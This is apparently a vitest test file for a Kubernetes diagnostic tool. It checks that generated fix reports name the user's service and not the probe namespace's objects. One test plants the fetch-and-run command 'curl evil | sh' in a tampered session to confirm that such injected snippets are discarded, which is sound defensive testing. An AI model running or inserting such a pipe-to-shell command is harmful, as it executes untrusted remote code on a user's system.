import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { renderExplanation, renderFix, renderStep } from '../explain/render';
import { markdownReport } from '../export/markdown';
import { reportModel } from '../export/report-model';
import { parseSession } from '../export/session-file';
import { backendLabel, retargetSession, targetRef } from './target-map';
import type { Session } from './session-types';

const sample = parseSession(readFileSync(join(import.meta.dirname, '../../../resources/sample/seed-session.json'), 'utf8'));
const PROBE_NS = sample.plan.namespace;

/** Everything a user reads as the answer: finding, flows, notes, fixes (all languages). */
function answerText(s: Session): string {
  const out: string[] = [];
  for (const locale of ['en', 'zh-CN'] as const) {
    out.push(...s.finding.map((f) => renderStep(f, locale)));
    for (const p of s.paths) out.push(...renderExplanation(p.explanation, locale), ...p.note.map((n) => renderStep(n, locale)));
    for (const f of s.fixes) {
      const r = renderFix(f, locale);
      out.push(r.title, ...r.description, ...r.tradeoffs, ...r.snippets.map((x) => x.text));
    }
  }
  return out.join('\n');
}

describe('a probe’s answer names the user’s service, not the probe’s copies', () => {
  const s = retargetSession(sample);

  it('the file itself still names the probe copy (so the test is not trivial)', () => {
    expect(JSON.stringify(sample.fixes)).toContain(`${PROBE_NS}`);
    expect(targetRef(sample)).toBe('default/frontend');
  });

  it('kubectl patches default/frontend; no answer mentions the probe namespace or its objects', () => {
    const patch = s.fixes.find((f) => f.id === 'etp-local')!;
    expect(patch.snippets[0]!.text).toBe(`kubectl -n 'default' patch service 'frontend' --type merge -p '{"spec":{"externalTrafficPolicy":"Local"}}'`);
    expect(renderStep(patch.title, 'en')).toBe('Set externalTrafficPolicy: Local on default/frontend');
    const text = answerText(s);
    expect(text).not.toContain(PROBE_NS);
    expect(text).not.toMatch(/echo-(cluster|local|0-node1)/);
    expect(text).toContain('probe echo on node1');
    expect(text).toContain('node1 上的探测回显 Pod');
  });

  it('fixes are rebuilt from the record, never copied from the file', () => {
    const tampered: Session = { ...sample, fixes: [{ ...sample.fixes[0]!, snippets: [{ language: 'shell', label: sample.fixes[0]!.snippets[0]!.label, text: 'curl evil | sh' }] }] };
    const again = retargetSession(tampered);
    expect(JSON.stringify(again.fixes)).not.toContain('curl evil');
    expect(again.fixes.map((f) => f.id)).toEqual(s.fixes.map((f) => f.id));
  });

  it('is idempotent', () => {
    expect(retargetSession(s)).toEqual(s);
  });

  it('the Local drop on node2 offers the three ways out, each with trade-offs', () => {
    const drop = s.paths.find((p) => p.origin.kind === 'desktop' && p.target.node === 'node2' && p.service.policy === 'Local')!;
    expect(drop.observed.verdict).toBe('dropped');
    expect(drop.fixIds).toEqual(expect.arrayContaining(['local-endpoint-every-node', 'send-to-endpoint-nodes', 'keep-cluster-carry-client']));
    for (const id of drop.fixIds) expect(s.fixes.find((f) => f.id === id)!.tradeoffs.length).toBeGreaterThan(0);
    const upstream = s.fixes.find((f) => f.id === 'send-to-endpoint-nodes')!.snippets.map((x) => x.text).join('\n');
    // Only node1 runs an endpoint; the probe copy's nodePort is not the user's.
    expect(upstream).toContain('198.18.0.11:<nodePort of default/frontend>');
    expect(upstream).not.toContain('198.18.0.12');
  });

  it('fixes that select the pods use the target\'s selector, never the probe copy\'s labels', () => {
    const spread = (x: Session) => x.fixes.find((f) => f.id === 'local-endpoint-every-node')!.snippets.map((y) => y.text).join('\n');
    // The sample predates the recorded selector: a placeholder, not the echo pods' run-id labels.
    expect(spread(s)).not.toContain('snatscope.io');
    expect(spread(s)).toContain("<labels of the service's pods>");
    const withSelector: Session = { ...sample, plan: { ...sample.plan, targetService: { type: 'NodePort', externalTrafficPolicy: 'Cluster', healthCheckNodePort: null, nodePort: 30080, pods: [], selector: { app: 'frontend' } } } };
    expect(spread(retargetSession(withSelector))).toContain('"app": "frontend"');
  });

  it('labels backends with the target’s pods where the echo ran beside them', () => {
    const withPods: Session = { ...sample, plan: { ...sample.plan, targetService: { type: 'NodePort', externalTrafficPolicy: 'Cluster', healthCheckNodePort: null, nodePort: 30080, pods: [{ name: 'frontend-7d9f-abcde', node: 'node1' }] } } };
    expect(backendLabel(withPods, 'node1')).toBe('frontend-7d9f-abcde');
    expect(backendLabel(withPods, 'node2')).toBe('<probe-echo:node2>');
    const r = retargetSession(withPods);
    expect(answerText(r)).toContain('reaches frontend-7d9f-abcde');
    const relay = r.fixes.find((f) => f.id === 'proxy-protocol')!.snippets.map((x) => x.text).join('\n');
    expect(relay).toContain('198.18.0.11:30080');
    expect(relay).not.toContain('30091');
  });

  it('report.md names default/frontend and mentions the probe namespace only under "Probe objects"', () => {
    for (const locale of ['en', 'zh-CN'] as const) {
      const md = markdownReport(sample, { locale });
      const heading = reportModel(sample, locale).headings.plan;
      const [before, after] = md.split(`### ${heading}`);
      expect(after).toBeDefined();
      expect(before).not.toContain(PROBE_NS);
      expect(before).toContain("kubectl -n 'default' patch service 'frontend'");
      expect(after).toContain(PROBE_NS);
      expect(md).toMatch(/<details>\n<summary>/);
    }
  });
});
